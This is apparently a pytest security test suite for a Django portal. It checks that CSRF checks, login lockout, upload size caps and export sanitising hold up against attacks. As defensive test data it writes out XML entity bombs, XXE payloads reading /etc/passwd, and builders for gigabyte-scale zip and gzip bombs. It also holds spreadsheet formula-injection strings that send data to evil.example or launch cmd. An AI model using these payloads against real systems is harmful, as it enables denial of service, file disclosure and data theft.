"""Security baseline: CSRF on every state-changing page, login lockout (portal and admin),
XML attacks and compression bombs refused before anything is expanded, secure cookies in
production."""

import contextlib
import csv
import functools
import html
import io
import json
import os
import resource
import struct
import subprocess
import sys
import tracemalloc
import types
import zipfile
import zlib
from unittest import mock

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from rest_framework.parsers import JSONParser

from activities.models import Activity
from participants.models import Completion, Upload
from participants.parsers import FileRefused, parse_xml
from participants.parsers.xml import XML_DOCTYPE_REFUSED, XML_MALFORMED

from .builders import cells, delimited, tsv, xlsx
from .conftest import PASSWORD, api_request, make_completion, make_key, make_user, portal_patterns
from .test_scoping import everything  # noqa: F401 - a fixture
from .test_uploads import upload
from .test_write_permissions import READ_ONLY

PORTAL = portal_patterns()
WRITE_PAGES = sorted(p.name for p in PORTAL if p.name not in READ_ONLY)


@pytest.mark.parametrize("name", WRITE_PAGES)
def test_every_state_changing_page_requires_the_csrf_token(name, editor_a, reviewer, activity_a):
    pattern = next(p for p in PORTAL if p.name == name)
    values = {"pars_id": activity_a.pars_id, "pk": 1, "upload_id": 1, "key_id": 1,
              "follow_up_id": 1, "file_format": "csv", "accme_id": activity_a.provider.accme_id,
              "membership_id": 1}  # fmt: skip
    url = reverse(name, kwargs={k: values[k] for k in pattern.pattern.converters})
    for user in (editor_a, reviewer):
        client = Client(enforce_csrf_checks=True)
        client.force_login(user)
        response = client.post(url, {"reason": "x"})
        assert response.status_code == 403, (name, user)
        assert b"CSRF" in response.content  # refused by the CSRF check, not by a permission


@pytest.mark.parametrize("login_url", ["/accounts/login/", "/admin/login/"])
def test_repeated_failed_logins_lock_the_account(db, login_url, settings):
    make_user("victim")
    client = Client()
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post(login_url, {"username": "victim", "password": "wrong"})
    locked = client.post(login_url, {"username": "victim", "password": PASSWORD})
    assert locked.status_code == 429
    assert "_auth_user_id" not in client.session
    if login_url == "/accounts/login/":  # the portal's page says how long, as configured
        minutes = round(settings.AXES_COOLOFF_TIME * 60)
        assert f"paused for this account for {minutes} min" in locked.content.decode()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{"&lol{};".format(i - 1 if i > 1 else "") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><ACCMELearnerReports>&lol9;</ACCMELearnerReports>"
)
ATTACKS = {
    "billion laughs": BILLION_LAUGHS,
    "quadratic blowup": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"x" * 50_000
    + b'">]><ACCMELearnerReports>' + b"&a;" * 50_000 + b"</ACCMELearnerReports>",
    "external entity (file)": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
    b'"file:///etc/passwd">]><ACCMELearnerReports>&x;</ACCMELearnerReports>',
    "external entity (http)": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
    b'"http://127.0.0.1:9/x">]><ACCMELearnerReports>&x;</ACCMELearnerReports>',
    "external DTD": b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://127.0.0.1:9/x.dtd">'
    b"<ACCMELearnerReports/>",
    "undeclared entity": b"<ACCMELearnerReports>&x;</ACCMELearnerReports>",
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_xml_attacks_are_refused_before_anything_is_expanded(name):
    with measured() as cost, pytest.raises(FileRefused) as refused:
        list(parse_xml(io.BytesIO(ATTACKS[name]), provider_id="0001234", id_lengths={}))
    # A declaration is refused as such (before lxml reads past the prolog), not by what
    # expanding it led to; an entity nobody declared is a plain syntax error.
    expected = XML_MALFORMED[:30] if name == "undeclared entity" else XML_DOCTYPE_REFUSED
    assert str(refused.value).startswith(expected)
    assert_cheap(cost, name)


@pytest.mark.slow  # the production profile in a subprocess
def test_production_cookies_are_secure():
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "pars_portal.settings_production",
           "SECRET_KEY": "x" * 60, "ALLOWED_HOSTS": "pars.example.org",
           "DATABASE_URL": "sqlite:////tmp/pars-security.sqlite3"}  # fmt: skip
    code = (
        "import django; django.setup(); from django.conf import settings as s; "
        "print(s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.SESSION_COOKIE_HTTPONLY, "
        "s.SECURE_SSL_REDIRECT, s.DEBUG, s.SIMULATED_BOARD, s.DEMO_DATA_ALLOWED)"
    )
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True,
                         check=True, cwd=os.path.dirname(os.path.dirname(__file__)))  # fmt: skip
    assert out.stdout.split() == ["True", "True", "True", "True", "False", "False", "False"]


# --- Compression bombs: refused before anything is expanded -------------------------------
#
# What the portal does with compressed input: an .xlsx is a zip, and its parts' declared
# sizes are checked before anything is decompressed (participants.parsers.refuse_xlsx_bomb;
# zipfile never expands a part beyond what it declares). Nothing else is ever decompressed:
# a .gz upload is refused by its name, gzip bytes under another name are read as the bytes
# they are, and the API does not decode a gzip Content-Encoding.

SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (
    b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"
MB = 1 << 20
BOMB_MB = 3000  # what the bombs expand to: about 3 GB


def deflate_repeated(head: bytes, chunk: bytes, copies: int, tail: bytes) -> bytes:
    """Raw deflate of head + chunk * copies + tail, without compressing every copy: after
    a full flush the compressor starts afresh, so each copy comes out as the same bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    one = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert one == compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    return start + one * (copies - 2) + one + compressor.compress(tail) + compressor.flush()


def zip_archive(parts: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already-deflated parts (name, data, crc32, declared size)."""
    out, central = io.BytesIO(), []
    for name, data, crc, size in parts:
        offset, encoded = out.tell(), name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data),
                              size, len(encoded), 0) + encoded + data)  # fmt: skip
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21,
                                   crc, len(data), size, len(encoded), 0, 0, 0, 0, 0,
                                   offset) + encoded)  # fmt: skip
    start = out.tell()
    out.write(b"".join(central))
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts),
                          out.tell() - start, start, 0))  # fmt: skip
    return out.getvalue()


@functools.cache
def xlsx_bomb(*, lying: bool) -> bytes:
    """A real workbook whose sheet is ~3 GB of whitespace in ~3 MB. `lying`: the sheet
    declares 10 MB (with the CRC of its first 10 MB), so only the size check of the reader
    itself stands between it and 3 GB."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Action"])
    plain = io.BytesIO()
    book.save(plain)
    space = b" " * MB
    parts = []
    with zipfile.ZipFile(plain) as workbook:
        for name in workbook.namelist():
            raw = workbook.read(name)
            if name != SHEET:
                compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
                data = compressor.compress(raw) + compressor.flush()
                parts.append((name, data, zlib.crc32(raw), len(raw)))
                continue
            data = deflate_repeated(SHEET_HEAD, space, BOMB_MB, SHEET_TAIL)
            if lying:
                size = 10 * MB
                crc = zlib.crc32((SHEET_HEAD + space * 10)[:size])
            else:
                size = len(SHEET_HEAD) + BOMB_MB * MB + len(SHEET_TAIL)
                crc = zlib.crc32(SHEET_HEAD)
                for _ in range(BOMB_MB):
                    crc = zlib.crc32(space, crc)
                crc = zlib.crc32(SHEET_TAIL, crc)
            parts.append((name, data, crc, size))
    return zip_archive(parts)


@functools.cache
def gzip_bomb() -> bytes:
    """~3 GB of whitespace in a ~3 MB gzip file (CRC left at 0: a reader would only notice
    after expanding everything)."""
    data = deflate_repeated(b"", b" " * MB, BOMB_MB, b"")
    size = (BOMB_MB * MB) & 0xFFFFFFFF
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + data + struct.pack("<II", 0, size)


class _CountingDecompressor:
    """A zlib decompressor (what zipfile and gzip expand with) that counts its output."""

    def __init__(self, inner, figures):
        self._inner, self._figures = inner, figures

    def decompress(self, *args, **kwargs):
        out = self._inner.decompress(*args, **kwargs)
        self._figures.decompressed += len(out)
        return out

    def flush(self, *args):
        out = self._inner.flush(*args)
        self._figures.decompressed += len(out)
        return out

    def __getattr__(self, name):
        return getattr(self._inner, name)


@contextlib.contextmanager
def measured():
    """The work done meanwhile, as amounts rather than time (the same on any machine, however
    busy): bytes expanded by zlib (every decompression in Python: zipfile's, gzip's),
    Python's peak allocation, and the growth of the process's peak RSS (lxml's memory, in C,
    counts there). The test client's request runs in this process."""
    figures = types.SimpleNamespace(decompressed=0)
    decompressobj, decompress = zlib.decompressobj, zlib.decompress

    def counting_decompressobj(*args, **kwargs):
        return _CountingDecompressor(decompressobj(*args, **kwargs), figures)

    def counting_decompress(*args, **kwargs):
        out = decompress(*args, **kwargs)
        figures.decompressed += len(out)
        return out

    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    try:
        with (
            mock.patch.object(zlib, "decompressobj", counting_decompressobj),
            mock.patch.object(zlib, "decompress", counting_decompress),
        ):
            yield figures
    finally:
        figures.peak_mb = tracemalloc.get_traced_memory()[1] / MB
        tracemalloc.stop()
        figures.rss_growth_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss) / 1024


def assert_cheap(figures, what):
    """Refused without doing the work an attack asks for (each test also checks the
    refusal's own message). The bombs expand to 3 GB: at most the 10 MB a lying workbook
    declares for its sheet gets expanded (zipfile stops there); an entity expansion, or a
    tree of what was read, would show in the memory figures."""
    assert figures.decompressed < 16 * MB, f"{what}: {figures.decompressed / MB:.0f} MB expanded"
    assert figures.peak_mb < 64, f"{what}: {figures.peak_mb:.0f} MB allocated"
    assert figures.rss_growth_mb < 100, f"{what}: peak RSS grew {figures.rss_growth_mb:.0f} MB"


def test_the_measure_sees_what_zipfile_expands():
    """The bound above can fail: reading the lying workbook's sheet expands what it declares
    (10 MB), and the measure counts it."""
    bomb = xlsx_bomb(lying=True)  # made first: making it reads a workbook
    with (
        measured() as cost,
        zipfile.ZipFile(io.BytesIO(bomb)) as book,
        book.open(SHEET) as sheet,
    ):
        while sheet.read(MB):
            pass
    assert cost.decompressed == 10 * MB


@pytest.fixture
def uploader(client_of, editor_a, activity_a, media_root):
    """The editor's client, warmed up by one ordinary upload of each kind (the first upload
    of a process imports openpyxl and compiles templates: that is not the attack's cost)."""
    client = client_of(editor_a)
    for name, content in (("warm.xlsx", _small_xlsx()),
                          ("warm.csv", b"Action,PARS Activity ID\n"),
                          ("warm.xml", b"<ACCMELearnerReports/>")):  # fmt: skip
        client.post(reverse("upload_create"), {"file": SimpleUploadedFile(name, content)})
    Upload.objects.all().delete()
    return client


def _small_xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Action"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


UPLOAD_BOMBS = {
    "xlsx zip bomb (3 GB sheet)": ("learners.xlsx", lambda: xlsx_bomb(lying=False),
                                   "This Excel file expands to more than 1024 MB"),
    "xlsx zip bomb, lying sizes": ("learners.xlsx", lambda: xlsx_bomb(lying=True),
                                   "This is not a readable Excel (.xlsx) file."),
    "gzip bomb named .csv": ("learners.csv", gzip_bomb, "The file is not UTF-8 text."),
    "gzip bomb named .txt": ("learners.txt", gzip_bomb, "The file is not UTF-8 text."),
    "gzip bomb named .xml": ("learners.xml", gzip_bomb, "The XML file is not well-formed"),
    "gzip bomb named .xlsx": ("learners.xlsx", gzip_bomb,
                              "This is not a readable Excel (.xlsx) file."),
}  # fmt: skip


@pytest.mark.parametrize("attack", list(UPLOAD_BOMBS))
def test_compression_bomb_upload_is_refused_before_it_is_expanded(uploader, attack):
    name, build, message = UPLOAD_BOMBS[attack]
    content = build()
    assert len(content) < 4 * MB
    with measured() as cost:
        response = uploader.post(
            reverse("upload_create"), {"file": SimpleUploadedFile(name, content)}
        )
    assert response.status_code == 302  # stored, then checked (at once in tests)
    upload = Upload.objects.get()
    assert (upload.status, upload.message[: len(message)]) == ("refused", message)
    assert not Completion.objects.exists()
    assert_cheap(cost, attack)


def test_gz_upload_is_refused_by_its_name(uploader):
    bomb = SimpleUploadedFile("learners.csv.gz", gzip_bomb())  # made before measuring
    with measured() as cost:
        response = uploader.post(reverse("upload_create"), {"file": bomb})
    assert response.status_code == 200
    assert "is none of these" in html.unescape(response.content.decode())
    assert not Upload.objects.exists()
    assert_cheap(cost, ".gz upload")


@pytest.mark.parametrize("model", ["participants_completion", "activities_activity"])
def test_xlsx_zip_bomb_in_an_admin_import_is_refused_before_it_is_expanded(
    client_of, reviewer, model, media_root
):
    client = client_of(reviewer)
    url = reverse(f"admin:{model}_import")
    client.post(url, {"format": "1", "import_file": SimpleUploadedFile("w.xlsx", _small_xlsx())})
    bomb = SimpleUploadedFile("b.xlsx", xlsx_bomb(lying=False))  # made before measuring
    with measured() as cost:
        response = client.post(url, {"format": "1", "import_file": bomb})
    assert response.status_code == 200
    assert response.context.get("confirm_form") is None
    page = html.unescape(response.content.decode())
    assert "This Excel file expands to more than 1024 MB" in page  # the reason, not a class name
    assert_cheap(cost, f"admin import {model}")


@pytest.mark.parametrize("content_type", ["application/json", "application/xml"])
def test_gzip_encoded_api_body_is_not_decompressed(client, provider_a, editor_a, content_type):
    key = make_key(provider_a, editor_a, name="LMS")
    bomb = gzip_bomb()  # made before measuring
    with measured() as cost:
        response = api_request(
            client, "post", "learner-reports", key, bomb, content_type=content_type,
            HTTP_CONTENT_ENCODING="gzip",
        )  # fmt: skip
    assert response.status_code == 400
    assert not Completion.objects.exists()
    assert_cheap(cost, f"gzip {content_type}")


# --- Over the size cap: refused before any parser runs -------------------------------------


@pytest.fixture
def parsers_watched():
    """Spies on everything that reads an upload's or a request's content."""
    from participants import api
    from participants.services import uploads

    with (
        mock.patch.object(uploads, "detect_format", wraps=uploads.detect_format) as detect,
        mock.patch.object(uploads, "parse_file", wraps=uploads.parse_file) as parse,
        mock.patch.object(api, "parse_xml", wraps=api.parse_xml) as xml,
        mock.patch.object(JSONParser, "parse", autospec=True, side_effect=JSON_PARSE) as json_,
    ):
        yield types.SimpleNamespace(upload=[detect, parse], xml=xml, json=json_)


JSON_PARSE = JSONParser.parse


@pytest.mark.parametrize("name", ["big.txt", "big.csv", "big.xlsx", "big.xml"])
def test_upload_over_the_cap_is_refused_before_any_parser_runs(
    client_of, editor_a, activity_a, settings, tmp_path, media_root, parsers_watched, name
):
    settings.UPLOAD_MAX_MB = 1
    head = {"big.xlsx": b"PK\x03\x04", "big.xml": b"<?xml version='1.0'?>"}.get(name, b"Action")
    client = client_of(editor_a)
    over = SimpleUploadedFile(name, head + b" " * (MB + 1 - len(head)))
    with measured() as cost:
        response = client.post(reverse("upload_create"), {"file": over})
    assert response.status_code == 200
    assert "The file is 1.0 MB; the limit is 1 MB." in html.unescape(response.content.decode())
    assert not any(spy.called for spy in parsers_watched.upload)
    assert not Upload.objects.exists()
    assert not any(p.is_file() for p in tmp_path.rglob("*"))
    assert_cheap(cost, name)
    # The same file one byte shorter is within the cap: it reaches the parsers.
    at_cap = SimpleUploadedFile(name, head + b" " * (MB - len(head)))
    client.post(reverse("upload_create"), {"file": at_cap})
    assert all(spy.called for spy in parsers_watched.upload)


@pytest.mark.parametrize("content_type", ["application/json", "application/xml"])
def test_api_body_over_the_cap_is_refused_before_any_parser_runs(
    client, provider_a, editor_a, activity_a, settings, parsers_watched, content_type
):
    key = make_key(provider_a, editor_a, name="LMS")
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 64 * 1024
    spy = parsers_watched.json if content_type == "application/json" else parsers_watched.xml
    if content_type == "application/json":
        body = json.dumps({"reports": [], "padding": "x" * 64 * 1024})
    else:
        body = b"<ACCMELearnerReports>" + b" " * 64 * 1024 + b"</ACCMELearnerReports>"
    with measured() as cost:
        response = api_request(client, "post", "learner-reports", key, body,
                               content_type=content_type)  # fmt: skip
    assert response.status_code in (400, 413)
    assert not spy.called, f"the {content_type} parser read a body over the cap"
    assert not Completion.objects.exists()
    assert_cheap(cost, content_type)
    # Within the cap, the same kind of body reaches its parser.
    small = body[:1024] if isinstance(body, bytes) else json.dumps({"reports": []})
    api_request(client, "post", "learner-reports", key, small, content_type=content_type)
    assert spy.called


# --- Formula injection: neutralised in every export, of every format -----------------------
#
# Every download the portal offers, enumerated: a new one fails
# test_every_download_is_in_the_formula_table until it is listed here.

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SPREADSHEETS = ("csv", "tsv", "xlsx")
# XML is read by programs (the board, the upload parser), never run by a spreadsheet: its
# values are exported exactly (tests/test_exports.py checks they read back unchanged).
EXPORTS = {
    "activity_export": SPREADSHEETS,
    "participant_export": SPREADSHEETS,
    "upload_errors": SPREADSHEETS,  # the error report, in the upload's own format
    "upload_template": SPREADSHEETS,  # no user data; checked anyway
    "admin:participants_completion_export": ("csv", "xlsx"),
    "admin:activities_activity_export": ("csv", "xlsx"),
}
NOT_DOWNLOADABLE = {
    "transmission batch files": "stored under MEDIA_ROOT for the board, never served",
    "uploaded files": "stored under MEDIA_ROOT, never served back",
}
EVIL = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "last_name": "+cmd|' /C calc'!A0",
    "status_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
    "warning": "-2+3+cmd|' /C calc'!A0",
    "credit_id": "\t=1+1",
}
EVIL_TITLE = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'


def live_formulas(content: bytes, file_format: str) -> list[str]:
    """Cells a spreadsheet would run: formula cells of a workbook; in CSV/TSV (no cell
    types), every value that starts with a formula character."""
    if file_format == "xlsx":
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(content))
        return [c.value for s in book.worksheets for row in s.iter_rows() for c in row
                if c.data_type == "f"]  # fmt: skip
    text = content.decode("utf-8-sig")
    delimiter = "\t" if file_format == "tsv" else ","
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]


@pytest.fixture
def evil(client_of, editor_a, activity_a, media_root):
    """A record and an activity of A whose text fields are formulas, and one upload of each
    format whose refused row carries them too."""
    Activity.objects.filter(pk=activity_a.pk).update(
        title=EVIL_TITLE, provider_activity_id="@SUM(1)"
    )
    make_completion(activity_a, **EVIL)
    client = client_of(editor_a)
    uploads = {}
    for file_format, name in (("tsv", "e.txt"), ("csv", "e.csv"), ("xlsx", "e.xlsx")):
        row = cells(activity_a, first_name=EVIL["first_name"], last_name=EVIL["last_name"],
                    completion_date="18/12/2015", credit_id=EVIL["warning"])  # fmt: skip
        content = {"tsv": lambda r: tsv([r]), "csv": lambda r: delimited([r]),
                   "xlsx": lambda r: xlsx([r])}[file_format](row)  # fmt: skip
        uploads[file_format] = upload(client, name, content)
        assert uploads[file_format].issues.exists()
    return {"activity": activity_a, "uploads": uploads}


def download_url(name, file_format, evil):
    if name == "upload_errors":
        return reverse(name, args=[evil["uploads"][file_format].pk])
    if name == "activity_export":
        return reverse(name, args=[evil["activity"].pars_id, file_format])
    return reverse(name, args=[file_format])


def fetch(client_of, editor_a, reviewer, name, file_format, evil) -> bytes:
    if name.startswith("admin:"):
        resource_field = "completionresource_id" if "completion" in name else "activityresource_id"
        index = {"csv": "0", "xlsx": "1"}[file_format]
        response = client_of(reviewer).post(
            reverse(name), {"format": index, "resource": "0", resource_field: "on"}
        )
    else:
        response = client_of(editor_a).get(download_url(name, file_format, evil))
    assert response.status_code == 200, (name, file_format)
    assert response.has_header("Content-Disposition"), (name, file_format)
    return b"".join(response.streaming_content) if response.streaming else response.content


FORMULA_CASES = [(name, f) for name, formats in EXPORTS.items() for f in formats]


@pytest.mark.parametrize(("name", "file_format"), FORMULA_CASES)
def test_no_export_hands_a_spreadsheet_a_formula_to_run(
    client_of, editor_a, reviewer, evil, name, file_format
):
    content = fetch(client_of, editor_a, reviewer, name, file_format, evil)
    assert live_formulas(content, file_format) == []
    if name != "upload_template":  # the payload is there, as text
        from tests.test_isolation import readable

        text = readable(content) if file_format == "xlsx" else content.decode("utf-8-sig")
        assert "evil.example" in text or "calc" in text, (name, file_format)


def test_every_download_is_in_the_formula_table(everything, client_of, editor_a, reviewer):  # noqa: F811
    """Every portal page that answers with a file, and every admin export."""
    from tests.test_isolation import ENDPOINTS
    from tests.test_scoping import PORTAL_URLS, portal_url

    downloads = set()
    for pattern in PORTAL_URLS:
        for user in (editor_a, reviewer):
            response = client_of(user).get(portal_url(pattern.name, everything))
            if response.has_header("Content-Disposition"):
                downloads.add(pattern.name)
    admin_exports = {
        f"admin:{name}" for _, name, namespace, _ in ENDPOINTS
        if namespace == "admin" and (name or "").endswith("_export")
    }  # fmt: skip
    assert downloads | admin_exports == set(EXPORTS)
